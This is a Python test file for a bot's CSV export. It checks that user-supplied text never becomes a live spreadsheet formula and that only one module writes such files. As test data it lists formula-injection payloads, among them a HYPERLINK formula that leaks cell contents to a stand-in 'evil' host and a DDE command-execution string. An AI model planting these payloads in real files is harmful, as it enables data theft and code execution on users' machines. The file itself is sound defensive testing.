"""What people typed is no formula in any spreadsheet, wherever that spreadsheet takes a cell to begin."""

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as some

from bot.i18n import translator
from bot.people.files import BYTE_ORDER_MARK, COLUMNS, as_csv

ROOT = Path(__file__).parent.parent.parent
ALIVE = re.compile(r"[\s\u200b-\u200f\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
PAYLOADS = ("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("https://evil.dk?"&A1;"klik")', "=cmd|'/C calc'!A0")
TYPED = some.one_of(
    some.lists(some.sampled_from([*PAYLOADS, *"=+-@;,\t\r\n \"'", "\u200b", "\ufeff", "\uff1d", "Godt"])).map("".join),
    some.text(),
)


def exported(note: str, place: str = "", words: str = "") -> str:
    """An export with one observation."""
    row: dict[str, object] = dict.fromkeys(COLUMNS, "") | {"note": note, "place": place, "outcome": None}
    row |= {"undone_at": None, "contested_at": None, "corrected_at": None}
    row["steps"] = [{"at": "2026-11-23", "step": "replied", "member": "U0ANNA", "words": words}] if words else []
    return as_csv({"observations_about_me": [row]}, translator("en"))


@given(note=TYPED, place=TYPED, words=TYPED)
def test_no_cell_is_a_formula_by_the_standard_and_its_words_are_all_there(note: str, place: str, words: str) -> None:
    lines = list(csv.reader(io.StringIO(exported(note, place, words).removeprefix(BYTE_ORDER_MARK), newline="")))
    assert [len(line) for line in lines] == [len(COLUMNS)] * 2
    assert not [cell for cell in lines[1] if ALIVE.match(cell)]
    assert lines[1][COLUMNS.index("note")].replace("'", "") == note.replace("'", "")


@given(note=TYPED)
@pytest.mark.parametrize("separator", [";", "\t"])
def test_no_cell_is_a_formula_where_cells_are_parted_otherwise(separator: str, note: str) -> None:
    for line in re.split(r"[\r\n]", exported(note).removeprefix(BYTE_ORDER_MARK)):
        assert not [cell for cell in line.split(separator) if ALIVE.match(cell)]


def test_only_one_module_writes_such_files() -> None:
    """A second one would need the same care."""
    writers = {
        path.relative_to(ROOT).as_posix()
        for room in ("bot", "handlers")
        for path in (ROOT / room).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Import) and {"csv", "openpyxl", "xlsxwriter"} & {name.name for name in node.names}
    }
    assert writers == {"bot/people/files.py"}
